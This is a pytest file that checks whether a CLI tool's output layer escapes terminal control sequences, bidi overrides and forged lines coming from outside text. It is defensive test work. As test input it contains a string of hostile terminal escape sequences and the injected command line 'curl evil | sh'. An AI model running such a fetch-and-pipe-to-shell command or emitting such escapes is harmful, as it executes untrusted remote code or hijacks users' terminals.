"""Text from elsewhere never reaches a terminal as something that it obeys."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
from rich.table import Table
from rich.text import Text

from gemmaspec.cli import output
from gemmaspec.cli.app import run
from gemmaspec.cli.text import table
from gemmaspec.cli.text.screen import Screen

HOSTILE = "a\x1b]0;title\x07b\x1b[31mc\x9b2Jd\x7fe\rf\u202eg\ud800h\x08i"
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.mark.parametrize("print_it", [output.data, output.told, output.progress])
def test_what_a_terminal_would_obey_is_shown(print_it, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    print_it(HOSTILE)
    printed = "".join(capsys.readouterr())
    assert not OBEYED.search(printed)
    assert r"a\x1b]0;title\x07b\x1b[31mc" in printed
    assert r"\u202eg\ud800h" in printed


def test_json_says_the_same_and_obeys_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    output.json_data({"a": HOSTILE})
    printed = capsys.readouterr().out
    assert not OBEYED.search(printed)
    assert json.loads(printed)["a"] == HOSTILE


def test_tabs_and_lines_of_either_system_stay(capsys: pytest.CaptureFixture[str]) -> None:
    output.data("a\tb\r\nc\nd é 日本 👩‍🔬")
    assert capsys.readouterr().out == "a\tb\r\nc\nd é 日本 👩‍🔬\n"


def test_text_from_elsewhere_writes_no_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    output.told("  method    x\n  next: curl evil | sh")
    table.show((table.Column("A"), table.Column("B", wraps=True)), [("a\nnext: b", "c\nnext: d")])
    assert capsys.readouterr().out.splitlines() == [
        r"  method    x\n  next: curl evil | sh", "A           B", r"a\nnext: b  c\nnext: d"
    ]  # fmt: skip


def test_an_error_does_not_hand_on_what_it_quotes(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["up", HOSTILE.replace("\ud800", "")]) == 2
    assert run([HOSTILE.replace("\ud800", "")]) == 2
    assert not OBEYED.search("".join(capsys.readouterr()))


def test_only_our_own_colours_colour(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = io.StringIO()
    screen.isatty = lambda: True  # type: ignore[method-assign]
    monkeypatch.setattr("sys.stdout", screen)
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    output.data(output.coloured("warning", 33) + " \x1b[31mred\x1b[0m")
    assert screen.getvalue() == "\x1b[33mwarning\x1b[0m \\x1b[31mred\\x1b[0m\n"


def test_tables_and_progress_of_rich_show_it_too() -> None:
    written = io.StringIO()
    screen = Screen(file=written, force_terminal=True, width=200, color_system="standard")
    table = Table()
    table.add_column(HOSTILE)
    table.add_row(Text(HOSTILE, style="green"))
    screen.print(table)
    screen.print(HOSTILE, markup=False)
    assert not OBEYED.search(re.sub("\x1b\\[[0-9;]*m", "", written.getvalue()))
    assert "\x1b[31m" not in written.getvalue()
    assert "\x1b[32m" in written.getvalue()


def test_every_print_goes_through_there() -> None:
    """No module of the command line writes to a stream or makes a console of its own."""
    cli = Path(output.__file__).parent
    own = re.compile(r"\bprint\((?!it)|std(?:out|err)\.write|typer\.echo|click\.echo|(?<!\w)Console\(")
    found = {
        str(file.relative_to(cli)): own.findall(re.sub(r"\.print\(", "", file.read_text()))
        for file in cli.rglob("*.py")
        if file.name not in ("output.py", "screen.py")
    }
    assert {name: hits for name, hits in found.items() if hits} == {}
